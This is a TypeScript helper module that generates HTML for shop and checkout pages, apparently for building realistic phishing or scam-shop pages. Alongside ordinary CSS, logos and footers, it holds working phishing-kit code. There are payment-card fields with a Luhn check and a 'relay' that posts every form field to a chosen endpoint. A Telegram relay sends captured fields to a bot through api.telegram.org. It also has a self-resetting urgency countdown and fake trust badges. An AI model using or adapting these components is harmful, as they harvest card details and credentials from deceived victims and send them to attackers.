/**
 * Shared furniture for the zs- pages: document shells, a few stylesheets, logos drawn in SVG,
 * footers in several languages and small scripts that real sites and real kits both carry.
 */

export type Lang = 'en' | 'de' | 'nl' | 'da' | 'sv' | 'nb' | 'fi';

export function doc(o: { lang: Lang; title: string; css?: string; head?: string; body: string; script?: string; bodyClass?: string }): string {
  return `<!DOCTYPE html>
<html lang="${o.lang}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${o.title}</title>
${o.head ?? ''}
<style>${o.css ?? baseCss}</style>
</head>
<body${o.bodyClass ? ` class="${o.bodyClass}"` : ''}>
${o.body}
${o.script ? `<script>${o.script}</script>` : ''}
</body>
</html>`;
}

export const baseCss = `
*{box-sizing:border-box}body{margin:0;font-family:-apple-system,"Segoe UI",Roboto,Helvetica,Arial,sans-serif;color:#1d1d1f;background:#f6f7f9;line-height:1.5}
a{color:#0b5cad}header.top{background:#fff;border-bottom:1px solid #e3e5e8;padding:14px 24px;display:flex;align-items:center;justify-content:space-between}
header.top nav a{margin-left:18px;text-decoration:none;color:#333;font-size:15px}
main{max-width:1080px;margin:0 auto;padding:28px 20px}
.card{background:#fff;border:1px solid #e3e5e8;border-radius:10px;padding:24px;margin-bottom:20px}
.grid{display:grid;grid-template-columns:repeat(auto-fill,minmax(220px,1fr));gap:18px}
.prod{background:#fff;border:1px solid #e6e6e6;border-radius:8px;padding:14px;text-align:left}
.prod .img{height:160px;border-radius:6px;background:linear-gradient(135deg,#e9edf2,#cfd6df);margin-bottom:10px}
.was{text-decoration:line-through;color:#888;margin-right:8px}.now{color:#c8102e;font-weight:700;font-size:18px}
.btn{display:inline-block;background:#0b5cad;color:#fff;border:0;border-radius:6px;padding:11px 20px;font-size:15px;cursor:pointer;text-decoration:none}
.btn.alt{background:#fff;color:#0b5cad;border:1px solid #0b5cad}
label{display:block;font-size:14px;margin:12px 0 4px;color:#444}
input,select,textarea{width:100%;padding:10px 12px;border:1px solid #c9cdd2;border-radius:6px;font-size:15px}
.row{display:flex;gap:12px}.row>*{flex:1}
footer{background:#22262b;color:#c9cdd2;padding:30px 24px;font-size:13px;margin-top:40px}
footer a{color:#c9cdd2}.muted{color:#6b7280;font-size:13px}
.banner{background:#c8102e;color:#fff;text-align:center;padding:8px;font-weight:600;font-size:14px}
.badge{display:inline-block;background:#eef2f7;border-radius:12px;padding:2px 10px;font-size:12px;color:#445}
.center{max-width:440px;margin:40px auto}
.small{font-size:12px;color:#777}
`;

export function logo(text: string, color: string, shape: 'circle' | 'square' | 'wave' = 'square'): string {
  const mark = shape === 'circle'
    ? `<circle cx="16" cy="16" r="14" fill="${color}"/>`
    : shape === 'wave'
      ? `<path d="M2 20 Q9 8 16 20 T30 20 V30 H2Z" fill="${color}"/>`
      : `<rect x="2" y="2" width="28" height="28" rx="6" fill="${color}"/>`;
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${40 + text.length * 11}" height="32" viewBox="0 0 ${40 + text.length * 11} 32" role="img" aria-label="${text}">${mark}<text x="40" y="22" font-family="Arial,Helvetica,sans-serif" font-weight="700" font-size="18" fill="#222">${text}</text></svg>`;
}

const footerWords: Record<Lang, { imprint: string; privacy: string; terms: string; cookies: string; rights: string }> = {
  en: { imprint: 'About us', privacy: 'Privacy policy', terms: 'Terms & conditions', cookies: 'Cookie settings', rights: 'All rights reserved.' },
  de: { imprint: 'Impressum', privacy: 'Datenschutz', terms: 'AGB', cookies: 'Cookie-Einstellungen', rights: 'Alle Rechte vorbehalten.' },
  nl: { imprint: 'Over ons', privacy: 'Privacyverklaring', terms: 'Algemene voorwaarden', cookies: 'Cookie-instellingen', rights: 'Alle rechten voorbehouden.' },
  da: { imprint: 'Om os', privacy: 'Privatlivspolitik', terms: 'Handelsbetingelser', cookies: 'Cookieindstillinger', rights: 'Alle rettigheder forbeholdes.' },
  sv: { imprint: 'Om oss', privacy: 'Integritetspolicy', terms: 'Köpvillkor', cookies: 'Cookieinställningar', rights: 'Alla rättigheter förbehållna.' },
  nb: { imprint: 'Om oss', privacy: 'Personvern', terms: 'Salgsbetingelser', cookies: 'Informasjonskapsler', rights: 'Alle rettigheter forbeholdt.' },
  fi: { imprint: 'Tietoa meistä', privacy: 'Tietosuojaseloste', terms: 'Toimitusehdot', cookies: 'Evästeasetukset', rights: 'Kaikki oikeudet pidätetään.' },
};

export function footer(lang: Lang, company: string, extra = ''): string {
  const w = footerWords[lang];
  return `<footer><div style="max-width:1080px;margin:0 auto">
<p><a href="/about">${w.imprint}</a> · <a href="/privacy">${w.privacy}</a> · <a href="/terms">${w.terms}</a> · <a href="#" onclick="return false">${w.cookies}</a></p>
${extra}
<p>© ${new Date().getFullYear()} ${company}. ${w.rights}</p></div></footer>`;
}

export function cookieBar(lang: Lang): string {
  const t: Record<Lang, [string, string]> = {
    en: ['We use cookies to improve your experience and for analytics.', 'Accept all'],
    de: ['Wir verwenden Cookies, um Ihnen ein optimales Einkaufserlebnis zu bieten.', 'Alle akzeptieren'],
    nl: ['Wij gebruiken cookies om onze website te verbeteren.', 'Alles accepteren'],
    da: ['Vi bruger cookies til statistik og til at forbedre siden.', 'Accepter alle'],
    sv: ['Vi använder kakor för att förbättra webbplatsen.', 'Godkänn alla'],
    nb: ['Vi bruker informasjonskapsler for å forbedre nettstedet.', 'Godta alle'],
    fi: ['Käytämme evästeitä sivuston kehittämiseen.', 'Hyväksy kaikki'],
  };
  return `<div id="cc" style="position:fixed;bottom:0;left:0;right:0;background:#111;color:#eee;padding:12px 20px;font-size:14px;display:flex;justify-content:space-between;align-items:center;z-index:50">
<span>${t[lang][0]}</span><button class="btn" onclick="document.getElementById('cc').remove();try{localStorage.setItem('cc','1')}catch(e){}">${t[lang][1]}</button></div>
<script>try{if(localStorage.getItem('cc'))document.getElementById('cc').remove()}catch(e){}</script>`;
}

/** A countdown that resets itself on every visit, as urgency timers on sales and scam pages do. */
export function countdown(elId: string, minutes: number): string {
  return `(function(){var end=Date.now()+${minutes}*60000;var el=document.getElementById('${elId}');function t(){var s=Math.max(0,Math.floor((end-Date.now())/1000));var m=Math.floor(s/60),r=s%60;if(el)el.textContent=(m<10?'0':'')+m+':'+(r<10?'0':'')+r;}t();setInterval(t,1000);})();`;
}

export function products(items: Array<[string, string, string]>, cta = 'In den Warenkorb'): string {
  return `<div class="grid">${items.map(([name, was, now]) => `<div class="prod"><div class="img"></div><div>${name}</div><div>${was ? `<span class="was">${was}</span>` : ''}<span class="now">${now}</span></div><button class="btn" style="margin-top:8px;width:100%" onclick="addToCart(this)">${cta}</button></div>`).join('\n')}</div>`;
}

export const cartScript = `var cart=[];function addToCart(b){var p=b.parentNode;cart.push(p.firstChild.nextSibling.textContent);var c=document.getElementById('cartCount');if(c)c.textContent=cart.length;try{sessionStorage.setItem('cart',JSON.stringify(cart))}catch(e){}}`;

/** Card-number formatting and a Luhn check, as both checkouts and card kits do client-side. */
export const cardFormat = `function luhn(n){n=n.replace(/\\D/g,'');var s=0,d=false;for(var i=n.length-1;i>=0;i--){var x=+n[i];if(d){x*=2;if(x>9)x-=9}s+=x;d=!d}return n.length>12&&s%10===0}
document.querySelectorAll('input[data-cc]').forEach(function(i){i.addEventListener('input',function(){var v=i.value.replace(/\\D/g,'').slice(0,19);i.value=v.replace(/(.{4})/g,'$1 ').trim()})});
document.querySelectorAll('input[data-exp]').forEach(function(i){i.addEventListener('input',function(){var v=i.value.replace(/\\D/g,'').slice(0,4);i.value=v.length>2?v.slice(0,2)+'/'+v.slice(2):v})});`;

export function cardFields(l: { num: string; exp: string; cvc: string; name: string }): string {
  return `<label>${l.name}</label><input name="holder" autocomplete="cc-name" required>
<label>${l.num}</label><input name="cc" data-cc inputmode="numeric" autocomplete="cc-number" placeholder="1234 5678 9012 3456" required>
<div class="row"><div><label>${l.exp}</label><input name="exp" data-exp placeholder="MM/JJ" autocomplete="cc-exp" required></div><div><label>${l.cvc}</label><input name="cvc" inputmode="numeric" maxlength="4" autocomplete="cc-csc" required></div></div>`;
}

/** The usual kit relay: collects every named field of a form and posts it, then moves to the next step. */
export function relay(formId: string, endpoint: string, next: string, extra = ''): string {
  return `document.getElementById('${formId}').addEventListener('submit',function(e){e.preventDefault();var f=this,d={};Array.prototype.forEach.call(f.elements,function(x){if(x.name)d[x.name]=x.value});d.ua=navigator.userAgent;d.t=new Date().toISOString();${extra}
var b=f.querySelector('button');if(b){b.disabled=true;b.textContent='...'}
fetch('${endpoint}',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(d).toString()}).catch(function(){}).then(function(){setTimeout(function(){location.href='${next}'},1200)});});`;
}

/** Telegram relay as it appears in kits (token and chat id inline). */
export function tgRelay(formId: string, token: string, chat: string, next: string, tag: string): string {
  return `document.getElementById('${formId}').addEventListener('submit',function(e){e.preventDefault();var m='${tag}\\n';Array.prototype.forEach.call(this.elements,function(x){if(x.name&&x.value)m+=x.name+': '+x.value+'\\n'});m+='IP-UA: '+navigator.userAgent;
fetch('https://api.telegram.org/bot${token}/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'${chat}',text:m})}).finally(function(){location.replace('${next}')});});`;
}

export const trustBadges = `<div style="display:flex;gap:10px;align-items:center;margin-top:14px"><span class="badge">SSL 256-bit</span><span class="badge">Trusted Shop</span><span class="badge">Visa</span><span class="badge">Mastercard</span><span class="badge">Klarna</span></div>`;

export function esc(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}
